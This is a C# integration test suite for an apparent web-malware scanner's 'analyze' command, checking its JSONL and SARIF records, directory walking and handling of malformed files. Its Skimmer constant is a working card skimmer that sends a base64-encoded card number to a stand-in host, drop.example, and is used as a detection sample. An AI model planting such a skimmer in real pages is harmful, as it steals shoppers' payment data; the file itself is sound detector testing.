using System.Diagnostics;
using System.Text;
using System.Text.Json;
using PageShield.Cli;
using PageShield.Detection;

namespace PageShield.IntegrationTests.Detection;

/// <summary><c>analyze</c> on files of every kind: the records' contract, and that nothing breaks it.</summary>
public sealed class AnalyzeCommandTests : IDisposable
{
    private const string Skimmer = "document.querySelector('#pay').onclick = function () { new Image().src = 'https://drop.example/i.gif?c=' + btoa(document.querySelector('#card_number').value); };";

    private readonly DirectoryInfo _folder = Directory.CreateTempSubdirectory("page-shield-analyze-");

    private static CancellationToken Now => TestContext.Current.CancellationToken;

    public void Dispose() => _folder.Delete(recursive: true);

    [Fact]
    public async Task A_record_has_the_fields_that_scripts_rely_on()
    {
        var path = await WriteAsync("a.js", Skimmer);

        var (exit, output, _) = await RunAsync("jsonl", path);

        using var record = JsonDocument.Parse(Assert.Single(output.Split('\n', StringSplitOptions.RemoveEmptyEntries)));
        Assert.Equal(
            ["path", "sha256", "bytes", "score", "verdict", "category", "subscores", "findings", "layers", "milliseconds"],
            record.RootElement.EnumerateObject().Select(property => property.Name));
        Assert.Equal((1, "malicious", "skimmer"),
            (exit, record.RootElement.GetProperty("verdict").GetString(), record.RootElement.GetProperty("category").GetString()));
        Assert.Equal(
            ["skimmer", "miner", "redirect", "fakeUpdate", "walletDrainer", "supplyChain", "obfuscation"],
            record.RootElement.GetProperty("subscores").EnumerateObject().Select(property => property.Name));
        var finding = record.RootElement.GetProperty("findings")[0];
        foreach (var name in (string[])["rule", "severity", "title", "evidence", "line", "column"])
            Assert.True(finding.TryGetProperty(name, out _), name);
    }

    [Fact]
    public async Task Directories_are_walked_and_no_content_breaks_it()
    {
        Directory.CreateDirectory(Path.Combine(_folder.FullName, "deep", "deeper"));
        await WriteAsync("empty.js", "");
        await WriteAsync("deep/page.html", "<html><body><script>" + Skimmer + "</script></body></html>");
        await WriteAsync("deep/deeper/broken.js", "function ( {{{ 'unfinished");
        await WriteAsync("data.json", "{\"a\": [1, 2, 3]}");
        await WriteAsync("nested.js", new string('[', 200_000));
        await WriteAsync("chain.js", string.Concat(Enumerable.Repeat("a(", 60_000)));
        await File.WriteAllBytesAsync(Path.Combine(_folder.FullName, "binary.bin"), [.. Enumerable.Range(0, 4_096).Select(n => (byte)(n * 31))], Now);
        await File.WriteAllBytesAsync(
            Path.Combine(_folder.FullName, "utf16.js"), [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Skimmer)], Now);
        await File.WriteAllBytesAsync(
            Path.Combine(_folder.FullName, "bom.js"), [.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes(Skimmer)], Now);

        var (exit, output, _) = await RunAsync("jsonl", _folder.FullName);

        var verdicts = output.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => JsonDocument.Parse(line).RootElement)
            .ToDictionary(
                record => Path.GetFileName(record.GetProperty("path").GetString() ?? ""), record => record.GetProperty("verdict").GetString());
        Assert.Equal(9, verdicts.Count);
        Assert.Equal(("malicious", "malicious", "malicious"), (verdicts["page.html"], verdicts["utf16.js"], verdicts["bom.js"]));
        Assert.Equal("clean", verdicts["data.json"]);
        Assert.Equal("unknown", verdicts["broken.js"]);
        Assert.Equal(1, exit);
    }

    [Fact]
    public async Task Sarif_names_rule_level_and_place()
    {
        var path = await WriteAsync("a b.js", Skimmer);

        var (_, output, _) = await RunAsync("sarif", path);

        var run = JsonDocument.Parse(output).RootElement.GetProperty("runs")[0];
        var result = run.GetProperty("results").EnumerateArray().First(result => result.GetProperty("ruleId").GetString() == "card-fields-sent");
        Assert.Equal("error", result.GetProperty("level").GetString());
        var place = result.GetProperty("locations")[0].GetProperty("physicalLocation");
        Assert.EndsWith("/a%20b.js", place.GetProperty("artifactLocation").GetProperty("uri").GetString(), StringComparison.Ordinal);
        Assert.True(place.GetProperty("region").GetProperty("startLine").GetInt32() > 0);
        Assert.Contains(run.GetProperty("tool").GetProperty("driver").GetProperty("rules").EnumerateArray(),
            rule => rule.GetProperty("id").GetString() == "card-fields-sent");
    }

    [Fact]
    public async Task A_path_that_is_not_there_is_told_and_gives_2()
    {
        var (exit, output, errors) = await RunAsync("table", Path.Combine(_folder.FullName, "nowhere.js"));

        Assert.Equal((2, ""), (exit, output));
        Assert.Contains("nowhere.js", errors, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Standard_input_is_judged_too()
    {
        // The program beside the tests runs with the tests' own list of frameworks and assemblies.
        var tests = Path.ChangeExtension(typeof(AnalyzeCommandTests).Assembly.Location, null);
        var start = new ProcessStartInfo(
            "dotnet", ["exec", "--runtimeconfig", tests + ".runtimeconfig.json", "--depsfile", tests + ".deps.json",
                typeof(AnalyzeCommand).Assembly.Location, "analyze", "-", "--format", "jsonl", "--no-detonate"])
        {
            RedirectStandardInput = true,
            RedirectStandardOutput = true,
        };
        using var process = Process.Start(start) ?? throw new InvalidOperationException("dotnet did not start.");
        await process.StandardInput.WriteAsync(Skimmer);
        process.StandardInput.Close();

        var output = await process.StandardOutput.ReadToEndAsync(Now);
        await process.WaitForExitAsync(Now);

        Assert.Equal(("-", "malicious"),
            (JsonDocument.Parse(output).RootElement.GetProperty("path").GetString(),
            JsonDocument.Parse(output).RootElement.GetProperty("verdict").GetString()));
        Assert.Equal(1, process.ExitCode);
    }

    private async Task<string> WriteAsync(string name, string text)
    {
        var path = Path.Combine(_folder.FullName, name);
        await File.WriteAllTextAsync(path, text, Now);
        return path;
    }

    private static async Task<(int Exit, string Output, string Errors)> RunAsync(string format, params string[] paths)
    {
        await using var output = new StringWriter();
        await using var errors = new StringWriter();
        var exit = await AnalyzeCommand.RunAsync(
            paths, format, Severity.High, null, null, detonate: false, withoutSandbox: false, output, errors, Now);
        return (exit, output.ToString(), errors.ToString());
    }
}
